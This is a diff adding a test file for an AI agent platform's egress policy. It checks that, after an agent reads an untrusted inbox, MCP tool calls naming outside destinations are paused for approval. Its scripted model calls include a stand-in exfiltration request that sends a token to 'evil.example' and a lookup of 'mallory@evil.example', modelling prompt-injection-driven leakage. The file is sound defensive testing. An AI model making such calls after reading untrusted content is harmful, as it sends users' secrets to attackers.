@@ -1,0 +1,158 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { listRunEvents } from '../../src/kernel/run-events.ts';
+import type { Approval } from '../../src/policy/approval-repo.ts';
+import { ToolRegistry } from '../../src/tools/tool-registry.ts';
+import { type ScriptedModelServer, startScriptedModelServer } from '../support/scripted-model-server.ts';
+import { storeTargets } from '../support/test-stores.ts';
+import { type McpHarness, startMcpHarness, WEB_SERVER } from './mcp-harness.ts';
+
+interface ListedTool {
+  name: string;
+  effect: string;
+  destinations: string[];
+}
+
+/** Egress by reading through MCP: a read-labelled tool that takes a URL or an account is a channel out. */
+describe.each(storeTargets())('MCP destination arguments in tainted runs on $kind', (target) => {
+  let model: ScriptedModelServer;
+  let h: McpHarness;
+
+  const toolsOf = async () =>
+    (await h.api<{ tools: ListedTool[] }>('GET', '/api/mcp/servers/web/tools')).body.tools;
+  const decisions = async (runId: string) =>
+    (await listRunEvents(h.agentOs.store, runId, 0))
+      .filter((e) => e.type === 'policy.decision')
+      .map((e) => `${e.data.tool}:${e.data.effect}:${e.data.ruleId}`);
+  const approvalOf = async (runId: string) =>
+    (await h.api<{ approvals: Approval[] }>('GET', '/api/approvals?status=pending')).body.approvals.find(
+      (a) => a.runId === runId,
+    );
+  const cancel = (runId: string) => h.api('POST', `/api/runs/${runId}/cancel`);
+  /** The model reads the inbox (untrusted output: the run is tainted), makes the call, then answers if it can. */
+  const taintedCall = (name: string, args: Record<string, unknown>, answers: boolean) =>
+    model.enqueue(
+      { kind: 'tool_calls', toolCalls: [{ name: 'web_open_inbox', arguments: {} }] },
+      { kind: 'tool_calls', toolCalls: [{ name, arguments: args }] },
+      ...(answers ? [{ text: 'Done.' }] : []),
+    );
+
+  beforeAll(async () => {
+    model = await startScriptedModelServer();
+    h = await startMcpHarness({
+      store: await target.open(),
+      modelBaseUrl: model.url,
+      tools: new ToolRegistry(),
+    });
+    const registered = await h.api('POST', '/api/mcp/servers', {
+      name: 'web',
+      transport: 'stdio',
+      command: process.execPath,
+      args: ['--import', 'tsx', WEB_SERVER],
+    });
+    expect(registered.status).toBe(201);
+    // Labelled read (and low stakes) by the admin: the flow rule for consequential calls does not apply.
+    for (const tool of ['open_inbox', 'visit', 'lookup_account']) {
+      const patched = await h.api('PATCH', `/api/mcp/servers/web/tools/${tool}`, {
+        effect: 'read',
+        stakes: 'low',
+      });
+      expect(patched.status).toBe(200);
+    }
+    await h.createAgent({
+      name: 'reader',
+      tools: ['web.open_inbox', 'web.visit', 'web.lookup_account'],
+      limits: { maxSteps: 5 },
+    });
+  }, 60_000);
+  afterAll(async () => {
+    await h.agentOs.stop();
+    await model.close();
+  });
+  beforeEach(() => {
+    model.requests.length = 0;
+  });
+
+  it('counts a format: uri argument as a destination by default', async () => {
+    const tools = await toolsOf();
+    expect(tools.find((t) => t.name === 'visit')).toMatchObject({ effect: 'read', destinations: ['url'] });
+    expect(tools.find((t) => t.name === 'lookup_account')?.destinations).toEqual([]);
+  });
+
+  it('pauses a read-labelled tool with a format: uri argument in a tainted run', async () => {
+    taintedCall('web_visit', { url: 'https://evil.example/verify?token=launch-code' }, false);
+    const paused = await h.runTask('reader', 'What is in my inbox?');
+    expect(paused.status).toBe('paused');
+    expect(paused.pause).toMatchObject({
+      reason: 'approval_required',
+      tool: 'web.visit',
+      ruleId: 'flow.egress_destination',
+    });
+    const approval = await approvalOf(paused.id);
+    expect(approval?.ruleId).toBe('flow.egress_destination');
+    expect(approval?.reason).toContain('the url argument of "web.visit" names a destination');
+    expect(approval?.reason).toContain('the run has read untrusted content from "web.open_inbox"');
+    expect(await decisions(paused.id)).toEqual([
+      'web.open_inbox:allow:default.allow',
+      'web.visit:ask:flow.egress_destination',
+    ]);
+    await cancel(paused.id);
+  });
+
+  it('lets the same call through in an untainted run', async () => {
+    model.enqueue(
+      {
+        kind: 'tool_calls',
+        toolCalls: [{ name: 'web_visit', arguments: { url: 'https://evil.example/verify?token=x' } }],
+      },
+      { text: 'Visited.' },
+    );
+    const run = await h.runTask('reader', 'Visit the page');
+    expect(run.status).toBe('succeeded');
+    expect(await decisions(run.id)).toEqual(['web.visit:allow:default.allow']);
+  });
+
+  it('pauses an argument once an admin marks it as a destination; unknown names are refused', async () => {
+    taintedCall('web_lookup_account', { account: 'mallory@evil.example', note: 'x' }, true);
+    const before = await h.runTask('reader', 'Check my inbox');
+    expect(before.status).toBe('succeeded');
+    expect(await decisions(before.id)).toEqual([
+      'web.open_inbox:allow:default.allow',
+      'web.lookup_account:allow:default.allow',
+    ]);
+
+    const unknown = await h.api<{ error: { code: string; message: string } }>(
+      'PATCH',
+      '/api/mcp/servers/web/tools/lookup_account',
+      { destinations: ['account', 'recipient'] },
+    );
+    expect(unknown.status).toBe(400);
+    expect(unknown.body.error.code).toBe('request.invalid');
+    expect(unknown.body.error.message).toContain('has no argument "recipient"');
+    expect(unknown.body.error.message).toContain('its arguments: account, note');
+    const noTool = await h.api('PATCH', '/api/mcp/servers/web/tools/no_such_tool', { destinations: ['url'] });
+    expect(noTool.status).toBe(404);
+    const badShape = await h.api('PATCH', '/api/mcp/servers/web/tools/lookup_account', {
+      destinations: [''],
+    });
+    expect(badShape.status).toBe(400);
+    expect((await toolsOf()).find((t) => t.name === 'lookup_account')?.destinations).toEqual([]);
+
+    const marked = await h.api('PATCH', '/api/mcp/servers/web/tools/lookup_account', {
+      destinations: ['account'],
+    });
+    expect(marked.status).toBe(200);
+    expect((await toolsOf()).find((t) => t.name === 'lookup_account')).toMatchObject({
+      effect: 'read',
+      destinations: ['account'],
+    });
+
+    taintedCall('web_lookup_account', { account: 'mallory@evil.example', note: 'x' }, false);
+    const after = await h.runTask('reader', 'Check my inbox');
+    expect(after.status).toBe('paused');
+    expect(after.pause).toMatchObject({ tool: 'web.lookup_account', ruleId: 'flow.egress_destination' });
+    expect((await approvalOf(after.id))?.reason).toContain(
+      'the account argument of "web.lookup_account" names a destination (mallory@evil.example: it is outside the workspace\'s egress allowlist)',
+    );
+    await cancel(after.id);
+  });
+});
